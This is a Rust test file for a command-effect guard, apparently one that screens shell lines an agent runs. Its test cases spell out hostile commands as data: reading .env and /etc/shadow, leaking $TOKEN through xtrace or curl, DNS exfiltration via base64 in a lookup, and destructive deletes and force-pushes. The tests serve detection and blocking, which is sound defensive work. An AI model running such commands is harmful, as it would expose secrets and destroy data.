use super::{Line, actions, actions_in, compiled, guard, holds, texts};
use crate::effects::{Actions, Event, Guard, Predicate, Project, Tools, gather};

/// A guard, its patterns and exceptions, a line, and whether it is true.
type Case = (&'static str, &'static [&'static str], &'static [&'static str], &'static str, bool);

#[test]
fn effects_of_lines() {
    let cases: &[Case] = &[
        ("reads", &[".env"], &[], "cat .env", true),
        ("reads", &[".env"], &[], "cat *", false),
        ("reads", &[".env"], &[], "cat .e*", true),
        ("reads", &[".env"], &[], "cat $X", false),
        ("may_read", &[".env"], &[], "cat $X", true),
        ("may_read", &[".env"], &[], "cat x$X.txt", false),
        ("reads", &[".env"], &[], "grep -r x .", false),
        ("may_read", &[".env"], &[], "grep -r x .", true),
        ("reads", &["/etc/shadow"], &[], "grep -r x /etc", true),
        ("reads", &[], &["./**"], "cat x", false),
        ("reads", &[], &["./**"], "cat x /y", true),
        ("reads", &[], &["./**"], "cat x$X", true),
        ("reads", &[], &["**"], "cat x$X", false),
        ("writes", &["x"], &[], "rm x", false),
        ("reads", &["x"], &[], "SHELL='cat x' vim", true),
        ("may_read", &[], &[], "SHELL=/bin/zsh vim", false),
        ("changes", &["x"], &[], "rm x", true),
        ("deletes", &["x"], &[], "mv x y", true),
        ("deletes", &["./sub/x.lock"], &[], "rm -r sub", true),
        ("deletes", &["**/*.lock"], &[], "rm -r sub", false),
        ("deletes", &["**/*.lock"], &[], "git clean -fdx", false),
        ("may_delete", &["**/*.lock"], &[], "rm -r sub", true),
        ("may_delete", &["**/*.lock"], &[], "git clean -fdx", true),
        ("changes", &["@ci"], &[], "sed -i s/a/b/ .github/workflows/x.yml", true),
        ("reads", &["env:*"], &[], "echo $TOKEN", true),
        ("reads", &[], &[], "echo $TOKEN", false),
        ("reads", &["env:TOKEN"], &[], "read x <<< \"$TOKEN\"; echo $x", true),
        ("reads", &["env:TOKEN"], &[], "read x <<< \"$TOKEN\"; curl -H \"$x\" u", false),
        ("reads", &["env:TOKEN"], &[], "for t in \"$TOKEN\" \"$X\"; do echo $t; done", true),
        ("reads", &["env:TOKEN"], &[], "set -- $TOKEN; echo $1", true),
        ("reads", &["env:TOKEN"], &[], "a=($TOKEN); echo ${a[0]}", true),
        ("reads", &["env:TOKEN"], &[], "set -x; : $TOKEN", true),
        ("reads", &["env:TOKEN"], &[], "set -x; set +x; : $TOKEN", false),
        ("reads", &["env:TOKEN"], &[], "set -o xtrace; curl -d \"$TOKEN\" u", true),
        ("reads", &[".env"], &[], "set -x; . ./.env", true),
        ("reads", &[".env"], &[], "bash -xc '. ./.env'", true),
        ("reads", &[".env"], &[], ". ./.env", false),
        ("sends", &["f"], &[], "dig $(base64 f).example", true),
        ("sends", &["f"], &[], "ssh $(cat f) ls", false),
        ("sends", &["."], &[], "pnpm wrangler deploy", true),
        ("pushes", &["main"], &[], "git push origin HEAD:main", true),
        ("pushes", &["main"], &[], "git push origin x", false),
        ("may_push", &["main"], &[], "git push origin $B", true),
        ("changes", &["ref:main"], &[], "git branch -D main", true),
        ("contacts", &["*.example"], &[], "curl https://A.EXAMPLE:80/x", true),
        ("contacts", &[], &["a.example"], "curl https://a.example", false),
        ("may_delete", &[], &["./**"], "unreadable '", true),
        ("deletes", &[], &["./**"], "unreadable '", false),
    ];
    for (name, of, except, line, expected) in cases {
        assert_eq!(
            holds(&guard(name, of, except), line),
            *expected,
            "{name}({of:?} except {except:?}): {line}"
        );
    }
}

#[test]
fn effects_of_some_commands() {
    let by = |by: &[&str], not_by: &[&str], line: &str| {
        let guard = Guard { by: texts(by), not_by: texts(not_by), ..guard("reads", &[".env"], &[]) };
        holds(&guard, line)
    };
    assert!(by(&["cat"], &[], "cat .env") && !by(&["cat"], &[], "head .env"));
    assert!(!by(&[], &["cut -f=1"], "cut -d= -f1 .env") && by(&[], &["cut -f=1"], "cut -d= -f2 .env"));
    assert!(by(&[], &["cut"], "cut -f1 .env; cat .env"));
}

#[test]
fn sets_with_exceptions() {
    assert!(holds(&guard("reads", &["@secrets"], &[]), "cat .env.local"));
    assert!(!holds(&guard("reads", &["@secrets"], &[]), "cat .env.example"));
    assert!(holds(&guard("reads", &["@secrets"], &[]), "cat .ENV.EXAMPLE"), "exceptions respect case");
    assert!(!holds(&guard("reads", &[], &["@secrets"]), "cat .env.local"));
    assert!(holds(&guard("reads", &[], &["@secrets"]), "cat .env.example"));
}

#[test]
fn reasons() {
    let because = |predicate: Predicate, line: &str| {
        let actions = actions(line);
        let because = compiled(&predicate, &[]).because(&actions);
        because.map(|because| because.pattern.unwrap_or_default())
    };
    let reads = || Predicate::Guard(guard("reads", &["x", "@secrets"], &[]));
    assert_eq!(because(reads(), "cat .env").as_deref(), Some("@secrets"));
    assert_eq!(because(reads(), "cat y"), None);
    assert_eq!(because(Predicate::Unknown, "$X").as_deref(), Some(""));
    assert_eq!(because(Predicate::Mentions(texts(&["/a/", "/b/"])), "echo b").as_deref(), Some("/b/"));
}

#[test]
fn passed_needs_the_success_of_the_line() {
    let passed = |pattern: &str, line: &str| {
        compiled(&Predicate::Passed(texts(&[pattern])), &[]).holds(&actions(line))
    };
    assert!(passed("cargo test", "cargo test") && passed("cargo test", "cd x && cargo test -q"));
    assert!(
        passed("cargo test", "cargo test 2>&1") && passed("cargo test", "set -o pipefail; cargo test | tail")
    );
    for line in [
        "cargo test | tail",
        "cargo test || true",
        "cargo test; ls",
        "! cargo test",
        "cargo test &",
        "cargo build",
    ] {
        assert!(!passed("cargo test", line), "{line}");
    }
    assert!(!passed("cargo test !--no-run", "cargo test --no-run"));
    assert!(!passed("npm run lint", "npm run other lint"));
}

#[test]
fn undeclared_tools_have_assumed_effects() {
    let tools = Tools::default();
    let event = Event {
        tool: "mcp__x__y",
        host_tool: None,
        cwd: Some("/srv/app"),
        project: Project::Absent,
        tools: &tools,
        programs: Default::default(),
    };
    let mut actions = Actions::default();
    gather(&event, &Line("git push -f"), &mut actions);
    let is_true = |predicate: Predicate| compiled(&predicate, &[]).holds(&actions);
    assert!(is_true(Predicate::Guard(guard("runs", &["git push"], &[]))));
    assert!(
        !is_true(Predicate::Only(vec![guard("runs", &["*"], &[]), guard("pushes", &[], &[])]))
            && !is_true(Predicate::Unknown)
    );
}

#[test]
fn the_root_and_the_project_itself() {
    let reads = |pattern: &str, line: &str, cwd: &str| {
        let predicate = compiled(&Predicate::Guard(guard("reads", &[pattern], &[])), &[]);
        predicate.holds(&actions_in(line, Some(cwd)))
    };
    assert!(reads("../x", "grep -r a ..", "/p") && reads("/x", "grep -r a /", "/p"));
    assert!(reads(".", "grep -r a .", "/p") && !reads(".", "cat *", "/p") && !reads(".", "cat x", "/p"));
}

/// Without a working directory, what is relative is neither the root nor a home.
#[test]
fn relative_paths_of_an_unknown_directory() {
    for (pattern, line, expected) in [
        ("~", "rm -rf *", false),
        ("/x", "rm -rf ?", false),
        ("x", "rm -rf ?", true),
        ("/x", "rm -rf $X", true),
    ] {
        let predicate = compiled(&Predicate::Guard(guard("may_delete", &[pattern], &[])), &[]);
        assert_eq!(predicate.holds(&actions_in(line, None)), expected, "{pattern}: {line}");
    }
}
